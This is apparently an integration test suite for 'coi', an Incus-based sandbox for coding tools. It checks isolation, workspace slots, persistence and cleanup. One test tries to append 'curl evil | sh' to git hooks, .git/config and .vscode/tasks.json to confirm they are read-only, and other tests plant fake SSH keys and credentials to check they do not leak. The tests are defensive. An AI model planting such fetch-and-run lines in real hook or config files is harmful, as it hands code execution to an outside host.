import { strict as assert } from 'node:assert';
import { ChildProcess, spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { IncusClient } from '../../helper/incus/client';
import type { Profile } from '../../helper/incus/types';
import { groupId } from '../../helper/host/groups';
import { tablesFor } from '../../helper/guard/network/names';
import { nftExec, removeAllRules } from '../../helper/guard/network/nft';
import { coi, CoiResult, deleteByPrefix, HELPER, requireIncus, sleep } from './support';

const PREFIX = `coi-t${randomBytes(2).toString('hex')}-`;
const root = mkdtempSync('/tmp/coi-sbx-');
chmodSync(root, 0o755);
const home = path.join(root, 'home');
let c: IncusClient;

/** A workspace of its own for each test. */
function workspace(name: string): string {
  const ws = path.join(root, name);
  mkdirSync(ws, { recursive: true });
  return ws;
}

/**
 * COI_TEST_POOL=1: the same tests against sandboxes taken from the warm pool,
 * kept by a guard of this run's own (own socket, scope and lock directory):
 * `[pool] size = 1`, and each workspace's pool filled before a launch.
 */
const POOLED = process.env.COI_TEST_POOL === '1';
const SCOPE = `sb${PREFIX.slice(5, 9)}`;
const guardSocket = path.join(root, 'guard.sock');
let guard: ChildProcess | undefined;
const baseEnv = () => ({ HOME: home, COI_CONTAINER_PREFIX: PREFIX, ...(POOLED ? { COI_GUARD_SOCKET: guardSocket, COI_GUARD_SCOPE: SCOPE } : {}) });
const run = (args: string[], ws: string, env: NodeJS.ProcessEnv = {}, timeoutMs?: number): Promise<CoiResult> =>
  coi(args, { ...baseEnv(), ...env, PWD: ws }, timeoutMs).then((r) => r);

/** `coi` with the working directory set to the workspace. */
async function coiIn(ws: string, args: string[], env: NodeJS.ProcessEnv = {}): Promise<CoiResult> {
  if (!POOLED || (args[0] !== 'run' && args[0] !== 'shell')) return coi(args, { ...baseEnv(), ...env }, 300_000, ws);
  // Pooled: fill the workspace's pool first. Should that fail, the launch must fail too (with its
  // own report): one that succeeded would have started cold, and tested nothing of the pool.
  const warm = await coi(['pool', 'warm', '--wait', '120'], { ...baseEnv(), ...env }, 300_000, ws);
  const r = await coi(args, { ...baseEnv(), ...env }, 300_000, ws);
  assert.ok(warm.code === 0 || r.code !== 0, `the pool did not fill (${warm.stderr.trim()}), so the launch started cold`);
  return r;
}

async function sandboxesOf(ws: string) {
  const r = await run(['list', '--format', 'json'], ws);
  assert.equal(r.code, 0, r.stderr);
  return (JSON.parse(r.stdout).sandboxes as { name: string; workspace: string; slot: number; state: string; tool: string; persistent: boolean; address?: string }[]).filter((s) => s.workspace === ws);
}

async function waitGone(name: string, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (!(await c.instanceExists(name))) return;
    await sleep(200);
  }
  assert.fail(`${name} still exists after ${timeoutMs} ms`);
}

const sha = (f: string) => createHash('sha256').update(readFileSync(f)).digest('hex');

before(async () => {
  c = await requireIncus();
  mkdirSync(path.join(home, '.coi'), { recursive: true });
  // The suite's user config: the offline base image and a plain shell as the tool.
  writeFileSync(path.join(home, '.coi', 'config.toml'), `[container]\nimage = "coi-base"\n\n[tool]\nname = "shell"\n\n[defaults]\nforward_env = ["COI_TEST_FORWARDED"]\n${POOLED ? '\n[pool]\nsize = 1\n' : ''}`);
  if (POOLED) {
    const fd = openSync(path.join(root, 'guard.log'), 'a');
    guard = spawn(process.execPath, [HELPER, 'guard', 'run'], {
      env: { ...process.env, COI_GUARD_SOCKET: guardSocket, COI_GUARD_SCOPE: SCOPE, COI_GUARD_LOCK_DIR: path.join(root, 'lock'), COI_NET_STATE_DIR: path.join(root, 'state'), COI_NET_CACHE_DIR: path.join(root, 'cache'), COI_GUARD_MONITOR: '0' },
      stdio: ['ignore', fd, fd],
    });
    for (let i = 0; i < 100 && !existsSync(guardSocket); i++) await sleep(200);
  }
});

after(async () => {
  if (POOLED) await coi(['clean'], baseEnv(), 120_000, root).catch(() => undefined);
  await deleteByPrefix(c, PREFIX);
  if (guard) {
    guard.kill('SIGTERM');
    await new Promise((r) => guard!.once('exit', r));
    await removeAllRules(nftExec(), tablesFor(SCOPE)).catch(() => undefined);
  }
  rmSync(root, { recursive: true, force: true });
});

describe(`coi run${POOLED ? ' (warm pool)' : ''}`, () => {
  test('exits with the command\'s code, prints nothing extra, keeps workspace changes and leaves no container', async () => {
    const ws = workspace('run-exit');
    const r = await coiIn(ws, ['run', '--', 'sh', '-c', 'echo hi > /workspace/out; exit 7']);
    assert.equal(r.code, 7);
    assert.equal(r.stdout, '');
    assert.equal(r.stderr, '');
    assert.equal(readFileSync(path.join(ws, 'out'), 'utf8'), 'hi\n');
    // Pooled, coi run does not wait for the deletion: the guard deletes the stopped sandbox a moment later.
    for (let i = 0; POOLED && i < 100 && (await sandboxesOf(ws)).length > 0; i++) await sleep(300);
    assert.deepEqual(await sandboxesOf(ws), []);
  });

  test('streams stdout and stderr and takes stdin', async () => {
    const ws = workspace('run-stream');
    const child = spawnSync(process.execPath, [HELPER, 'run', 'cat; echo oops >&2'], { cwd: ws, input: 'from-stdin\n', env: { ...process.env, ...baseEnv() }, encoding: 'utf8', timeout: 120_000 });
    assert.equal(child.status, 0, child.stderr);
    assert.equal(child.stdout, 'from-stdin\n');
    assert.equal(child.stderr, 'oops\n');
  });

  test('a file made inside is owned by the invoking user on the host (here root)', async () => {
    const ws = workspace('owner-root');
    const r = await coiIn(ws, ['run', 'touch /workspace/made-inside; id -un']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'code\n', 'the command runs as the code user');
    const st = spawnSync('stat', ['-c', '%u:%g', path.join(ws, 'made-inside')], { encoding: 'utf8' });
    assert.equal(st.stdout.trim(), `${process.getuid!()}:${process.getgid!()}`);
  });

  test('a non-root user in the Incus admin group gets files owned by them, not by root', async () => {
    const uid = 1500 + Math.floor(Math.random() * 400);
    const admin = groupId('incus-admin');
    assert.ok(admin !== undefined, 'the incus-admin group exists after set-up');
    const userHome = path.join(root, `home-${uid}`);
    const ws = workspace(`owner-${uid}`);
    mkdirSync(userHome, { recursive: true });
    for (const d of [userHome, ws]) chownSync(d, uid, uid);
    mkdirSync(path.join(userHome, '.coi'));
    writeFileSync(path.join(userHome, '.coi', 'config.toml'), '[container]\nimage = "coi-base"\n');
    chownSync(path.join(userHome, '.coi'), uid, uid);
    // A real unprivileged process: its own uid and gid, the admin group as supplementary group.
    const r = spawnSync('setpriv', [`--reuid=${uid}`, `--regid=${uid}`, `--groups=${admin}`, process.execPath, HELPER, 'run', 'touch /workspace/by-user; mkdir /workspace/dir-by-user'], {
      cwd: ws,
      env: { ...process.env, HOME: userHome, COI_CONTAINER_PREFIX: PREFIX, USER: `u${uid}` },
      encoding: 'utf8',
      timeout: 180_000,
    });
    assert.equal(r.status, 0, `coi run as uid ${uid}: ${r.stderr}`);
    for (const f of ['by-user', 'dir-by-user']) {
      const st = spawnSync('stat', ['-c', '%u:%g', path.join(ws, f)], { encoding: 'utf8' });
      assert.equal(st.stdout.trim(), `${uid}:${uid}`, `${f} belongs to the user`);
    }
    // The guard delegated this throw-away uid for raw.idmap; take it back.
    for (const file of ['/etc/subuid', '/etc/subgid']) {
      writeFileSync(file, readFileSync(file, 'utf8').split('\n').filter((l) => l !== `root:${uid}:1`).join('\n'));
    }
  });
});

describe(`coi shell${POOLED ? ' (warm pool)' : ''}`, () => {
  test('two launches on one workspace, at the same time, get slots 1 and 2 with separate homes', async () => {
    const ws = workspace('slots');
    const [a, b] = await Promise.all([coiIn(ws, ['shell', '--background']), coiIn(ws, ['shell', '--background'])]);
    assert.equal(a.code, 0, a.stderr);
    assert.equal(b.code, 0, b.stderr);
    const names = [a.stdout.trim(), b.stdout.trim()].sort();
    assert.match(names[0]!, new RegExp(`^${PREFIX}[0-9a-f]{8}-1$`));
    assert.equal(names[1], names[0]!.replace(/-1$/, '-2'));
    await c.exec(names[0]!, ['touch', '/home/code/only-in-slot-1'], { user: 1000, group: 1000 });
    assert.equal((await c.exec(names[0]!, ['test', '-e', '/home/code/only-in-slot-1'])).exitCode, 0);
    assert.equal((await c.exec(names[1]!, ['test', '-e', '/home/code/only-in-slot-1'])).exitCode, 1, 'slot 2 has its own home');

    const list = await sandboxesOf(ws);
    assert.deepEqual(list.map((s) => [s.slot, s.state, s.tool, s.persistent]), [[1, 'running', 'shell', false], [2, 'running', 'shell', false]]);
    for (const s of list) assert.match(s.address ?? '', /^\d+\.\d+\.\d+\.\d+$/, 'the address comes from Incus');

    // The tool runs in tmux as code in /workspace.
    await run(['tmux', 'send', names[0]!, 'echo "I am $(id -un) in $(pwd)"'], ws);
    let screen = '';
    for (let i = 0; i < 50 && !/I am code in \/workspace/.test(screen); i++) {
      await sleep(100);
      screen = (await run(['tmux', 'capture', names[0]!], ws)).stdout;
    }
    assert.match(screen, /^I am code in \/workspace$/m);
    for (const n of names) assert.equal((await run(['kill', n], ws)).code, 0);
    assert.deepEqual(await sandboxesOf(ws), []);
  });

  test('no host variable, SSH key or git credential enters; a forward_env variable does', async () => {
    const ws = workspace('env');
    const secret = `s3cret-${randomBytes(6).toString('hex')}`;
    const forwarded = `fwd-${randomBytes(6).toString('hex')}`;
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    writeFileSync(path.join(home, '.ssh', 'id_ed25519'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret}-key\n`);
    writeFileSync(path.join(home, '.git-credentials'), `https://user:${secret}-git@example.invalid\n`);
    const r = await coiIn(ws, ['shell', '--background'], { COI_TEST_SECRET: secret, COI_TEST_FORWARDED: forwarded });
    assert.equal(r.code, 0, r.stderr);
    const name = r.stdout.trim();
    const environs = await c.exec(name, ['sh', '-c', 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"']);
    assert.ok(!environs.stdout.includes(secret), 'the host secret is in no process environment');
    assert.ok(environs.stdout.includes(`COI_TEST_FORWARDED=${forwarded}`), 'the forwarded variable reaches the agent');
    const files = await c.exec(name, ['sh', '-c', `grep -rl -- "${secret}" /home /root /etc /tmp /workspace /opt /var /srv 2>/dev/null; true`]);
    assert.equal(files.stdout, '', 'no file inside holds the key or the credential');
    const ssh = await c.exec(name, ['sh', '-c', 'ls -A /home/code/.ssh /root/.ssh 2>/dev/null | grep -v "^/" ; true']);
    assert.equal(ssh.stdout.trim(), '');
    await run(['kill', name], ws);
  });

  test('protected paths are read-only inside and unchanged on the host; a symlinked one is refused', async () => {
    const ws = workspace('protected');
    assert.equal(spawnSync('git', ['init', '-q', ws]).status, 0);
    mkdirSync(path.join(ws, '.vscode'));
    writeFileSync(path.join(ws, '.vscode', 'tasks.json'), '{"version":"2.0.0"}\n');
    const before = { config: sha(path.join(ws, '.git', 'config')), tasks: sha(path.join(ws, '.vscode', 'tasks.json')) };
    const script = [
      'for f in .git/hooks/pre-commit .git/config .vscode/tasks.json; do',
      '  if (echo "curl evil | sh" >> "$f") 2>/dev/null; then echo "WROTE $f"; else echo "DENIED $f"; fi',
      'done',
      'sudo sh -c "echo x >> .git/config" 2>/dev/null && echo "ROOT WROTE .git/config" || echo "ROOT DENIED .git/config"',
      'echo ok > normal-file',
    ].join('\n');
    const r = await coiIn(ws, ['run', script]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'DENIED .git/hooks/pre-commit\nDENIED .git/config\nDENIED .vscode/tasks.json\nROOT DENIED .git/config\n');
    assert.equal(existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')), false);
    assert.deepEqual({ config: sha(path.join(ws, '.git', 'config')), tasks: sha(path.join(ws, '.vscode', 'tasks.json')) }, before);
    assert.equal(readFileSync(path.join(ws, 'normal-file'), 'utf8'), 'ok\n', 'the rest of the workspace is writable');

    const linked = workspace('protected-link');
    symlinkSync('/etc', path.join(linked, '.husky'));
    const refused = await coiIn(linked, ['run', 'true']);
    assert.equal(refused.code, 2, 'refused as bad input');
    assert.match(refused.stderr, /\.husky is a symbolic link/);
    assert.deepEqual(await sandboxesOf(linked), [], 'nothing was created');
  });

  test('persistent: a file outside /workspace survives coi shutdown and comes back with the next coi shell', async () => {
    const ws = workspace('persistent');
    const first = await coiIn(ws, ['shell', '--background', '--persistent']);
    assert.equal(first.code, 0, first.stderr);
    const name = first.stdout.trim();
    await c.exec(name, ['sh', '-c', 'echo kept > /home/code/installed.txt'], { user: 1000, group: 1000 });
    const down = await run(['shutdown', name], ws, {}, 180_000);
    assert.equal(down.code, 0, down.stderr);
    assert.match(down.stdout, /kept \(persistent\)/);
    assert.deepEqual((await sandboxesOf(ws)).map((s) => [s.name, s.state, s.persistent]), [[name, 'stopped', true]]);
    const second = await coiIn(ws, ['shell', '--background', '--persistent']);
    assert.equal(second.code, 0, second.stderr);
    assert.equal(second.stdout.trim(), name, 'the stopped persistent sandbox is reused');
    assert.equal((await c.exec(name, ['cat', '/home/code/installed.txt'])).stdout, 'kept\n');
    await run(['kill', name], ws);
  });

  test('when the session ends (the tool exits, or poweroff inside) an ephemeral sandbox is deleted; workspace files stay', async () => {
    const ws = workspace('session-end');
    const a = await coiIn(ws, ['shell', '--background']);
    const b = await coiIn(ws, ['shell', '--background']);
    assert.equal(a.code + b.code, 0, a.stderr + b.stderr);
    await run(['tmux', 'send', a.stdout.trim(), 'echo from-a > /workspace/a.txt; exit'], ws);
    await c.exec(b.stdout.trim(), ['sudo', '-u', 'code', 'sh', '-c', 'echo from-b > /workspace/b.txt; sudo poweroff']).catch(() => undefined);
    await waitGone(a.stdout.trim());
    await waitGone(b.stdout.trim());
    assert.equal(readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'from-a\n');
    assert.equal(readFileSync(path.join(ws, 'b.txt'), 'utf8'), 'from-b\n');
  });

  test('a privileged default profile is refused with the key and the profile named, and nothing is created', async () => {
    const ws = workspace('privileged');
    const profile = await c.get<Profile>('/1.0/profiles/default');
    // Incus applies a profile change to every instance using it; one being deleted meanwhile (a warm
    // member the guard replaces) fails that step, and Incus says the change is saved all the same.
    const putProfile = (body: Omit<Profile, 'name'>) =>
      c.run('PUT', '/1.0/profiles/default', body).catch((e: unknown) => {
        if (!/profile change still saved/.test(String((e as Error).message))) throw e;
      });
    try {
      await putProfile({ config: { ...profile.config, 'security.privileged': 'true' }, devices: profile.devices, description: profile.description });
      const r = await coiIn(ws, ['shell', '--background']);
      assert.equal(r.code, 1);
      assert.match(r.stderr, /the Incus profile "default" sets security\.privileged=true/);
      assert.match(r.stderr, /incus profile unset default security\.privileged/);
      assert.deepEqual(await sandboxesOf(ws), []);
    } finally {
      await putProfile({ config: profile.config, devices: profile.devices, description: profile.description });
    }
  });

  test('a coi killed mid-launch leaves nothing behind after coi clean, and the workspace is untouched', async () => {
    const ws = workspace('killed');
    writeFileSync(path.join(ws, 'precious.txt'), 'keep me\n');
    const child = spawn(process.execPath, [HELPER, 'shell', '--background'], { cwd: ws, env: { ...process.env, ...baseEnv() }, stdio: 'ignore' });
    const closed = new Promise((r) => child.once('close', r));
    // Kill it while the instance exists but is still being set up.
    let killedAt = '';
    for (let i = 0; i < 300 && !killedAt; i++) {
      const mine = (await c.listInstances()).find((x) => x.config['user.coi.workspace'] === ws);
      if (mine && mine.config['user.coi.phase'] === 'creating') {
        child.kill('SIGKILL');
        killedAt = mine.status;
      }
      await sleep(20);
    }
    assert.ok(killedAt, 'caught the launch in its creating phase');
    await closed;
    const clean = await run(['clean'], ws);
    assert.equal(clean.code, 0, clean.stderr);
    assert.match(clean.stdout, /deleted .* \(launch was interrupted\)/);
    assert.deepEqual(await sandboxesOf(ws), []);
    assert.equal(readFileSync(path.join(ws, 'precious.txt'), 'utf8'), 'keep me\n');
  });
});
